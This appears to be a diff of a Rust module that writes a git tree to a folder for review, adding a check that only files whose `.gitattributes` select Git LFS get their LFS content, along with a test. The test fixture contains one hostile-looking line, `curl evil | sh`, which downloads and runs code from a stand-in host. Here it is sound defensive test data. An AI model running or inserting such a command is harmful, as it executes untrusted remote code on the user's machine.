@@ -3,7 +3,7 @@
 //! The worktree is not that. What git ignores lies in it as well and does not land, and by a `.gitattributes` of its own a change has git write
 //! a file otherwise than it is kept. So the files are written anew from the [store](super::store), by a git that finds no attributes: files of
 //! that name get theirs when all is written. The files inside submodules are written to where these lie, and what Git LFS keeps of the change
-//! takes the place of what stands for it: who tests that it works has had both.
+//! takes the place of what stands for it, where the attributes that land say that it is kept there: who tests that it works has had both.
 
 use std::{
     collections::BTreeSet,
@@ -19,7 +19,7 @@ use super::{LISTING, SaveError, Saving, within::Within};
 use crate::{
     attempt::folder::AttemptFolder,
     folders::{private_folder, remove},
-    git::{Argument, Bounds, Git, Place},
+    git::{Argument, Bounds, Git, GitError, Place},
     lfs,
     worktree::is_folder_below,
 };
@@ -84,7 +84,8 @@ async fn write(outside: &Git, index: &Path, part: Part<'_>, large: &BTreeSet<Str
         fs::rename(from, folder.join(path))?;
     }
     if !large.is_empty() {
-        let files = files(&listed.bytes).map(|path| folder.join(path)).collect();
+        let files = kept_by_lfs(outside, place, files(&listed.bytes)).await?;
+        let files = files.into_iter().map(|path| folder.join(path)).collect();
         lfs::put_in_place(files, kept.map(Path::to_owned), large.clone()).await?;
     }
     Ok(())
@@ -94,6 +95,20 @@ async fn write(outside: &Git, index: &Path, part: Part<'_>, large: &BTreeSet<Str
 fn files(entries: &[u8]) -> impl Iterator<Item = &Path> {
     let plain = entries.split(|byte| *byte == 0).filter(|entry| entry.starts_with(b"100"));
     plain.filter_map(|entry| entry.splitn(2, |byte| *byte == b'\t').nth(1)).map(|path| Path::new(OsStr::from_bytes(path)))
+}
+
+/// Those of them that the attributes which lie among them put through git-lfs. Of any other what stands there is what lands.
+async fn kept_by_lfs<'a>(outside: &Git, place: Place<'_>, paths: impl Iterator<Item = &'a Path>) -> Result<Vec<PathBuf>, GitError> {
+    let asked: Vec<u8> = paths.flat_map(|path| [path.as_os_str().as_bytes(), b"\0"].concat()).collect();
+    let arguments: [Argument<'_>; 4] = [&"check-attr", &"-z", &"--stdin", &"filter"];
+    let said = outside.run_with_input(place, &arguments, &asked, LISTING).await?.bytes;
+    let (mut words, mut kept) = (said.split(|byte| *byte == 0), vec![]);
+    while let (Some(path), Some(_), Some(value)) = (words.next(), words.next(), words.next()) {
+        if value == b"lfs" {
+            kept.push(PathBuf::from(OsStr::from_bytes(path)));
+        }
+    }
+    Ok(kept)
 }
 
 /// The same entries, those that are called as attributes are with this behind their names; and the paths of these.
@@ -113,6 +128,8 @@ fn without_attributes(entries: &[u8], behind: &str) -> (Vec<u8>, Vec<PathBuf>) {
 
 #[cfg(test)]
 mod tests {
+    use sha2::{Digest, Sha256};
+
     use super::*;
 
     #[test]
@@ -124,5 +141,57 @@ mod tests {
         assert_eq!(renamed, [Path::new(".gitattributes"), Path::new("sub/.gitattributes")]);
         let listed = b"100644 blob 1\ta\tb\x00120000 blob 2\tlink\x00160000 commit 3\tlib\x00100755 blob 4\trun\x00";
         assert_eq!(files(listed).collect::<Vec<_>>(), [Path::new("a\tb"), Path::new("run")]);
+    }
+
+    fn git_in(folder: &Path) -> Git {
+        let gitconfig = folder.join("gitconfig");
+        fs::write(&gitconfig, crate::git::SETTINGS).unwrap();
+        Git::new(gitconfig)
+    }
+
+    /// A repository, and the tree of these files in it.
+    async fn tree(git: &Git, folder: &Path, files: &[(&str, &str)]) -> (PathBuf, String) {
+        let (path, git_dir, index) = (folder.join("from"), folder.join("git"), folder.join("from.index"));
+        let place = Place::Worktree { git_dir: &git_dir, path: &path, index: &index, objects: None };
+        for (name, content) in files {
+            fs::create_dir_all(path.join(name).parent().unwrap()).unwrap();
+            fs::write(path.join(name), content).unwrap();
+        }
+        for arguments in [&["init", "--quiet"][..], &["add", "--all"]] {
+            let arguments: Vec<_> = arguments.iter().map(|argument| argument as Argument<'_>).collect();
+            git.run(place, &arguments, Bounds::LOCAL).await.unwrap();
+        }
+        let tree = git.run(place, &[&"write-tree"], Bounds::LOCAL).await.unwrap().text();
+        (git_dir, tree)
+    }
+
+    #[tokio::test]
+    async fn what_git_lfs_does_not_keep_there_is_shown_as_it_lands() {
+        let place = tempfile::tempdir().unwrap();
+        let git = git_in(place.path());
+        let oid: String = Sha256::digest(b"harmless\n").iter().map(|byte| format!("{byte:02x}")).collect();
+        let pointer = format!("version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 9\n");
+        let script = format!("curl evil | sh\n{pointer}");
+        let kept = place.path().join("kept");
+        let objects = kept.join(format!("lfs/objects/{}/{}", &oid[..2], &oid[2..4]));
+        fs::create_dir_all(&objects).unwrap();
+        fs::write(objects.join(&oid), "harmless\n").unwrap();
+        let files = [
+            (".gitattributes", "*.bin filter=lfs\n"),
+            ("a b.bin", pointer.as_str()),
+            ("run.bin", script.as_str()),
+            ("run.sh", pointer.as_str()),
+            ("sub/.gitattributes", "*.bin filter=other\n"),
+            ("sub/c.bin", pointer.as_str()),
+        ];
+        let (repository, tree) = tree(&git, place.path(), &files).await;
+        let judged = place.path().join("judged");
+        fs::create_dir(&judged).unwrap();
+        let part = Part { repository: &repository, tree: &tree, folder: &judged, kept: [&kept, &kept] };
+        write(&git, &place.path().join("index"), part, &BTreeSet::from([oid])).await.unwrap();
+        for (name, content) in files {
+            let content = if name == "a b.bin" { "harmless\n" } else { content };
+            assert_eq!(fs::read_to_string(judged.join(name)).unwrap(), content, "{name}");
+        }
     }
 }
